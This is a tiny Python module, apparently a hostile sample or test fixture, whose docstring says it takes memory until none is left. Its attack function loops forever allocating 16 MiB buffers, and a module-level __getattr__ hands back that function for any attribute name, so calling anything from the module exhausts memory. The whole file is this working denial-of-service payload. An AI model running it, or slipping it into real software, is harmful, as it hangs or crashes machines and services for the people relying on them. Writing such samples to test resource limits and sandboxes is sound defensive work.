"""Takes memory until nothing more is given."""


def attack(*arguments, **keywords):
    taken = []
    while True:
        taken.append(bytearray(2**24))


def __getattr__(name):
    return attack
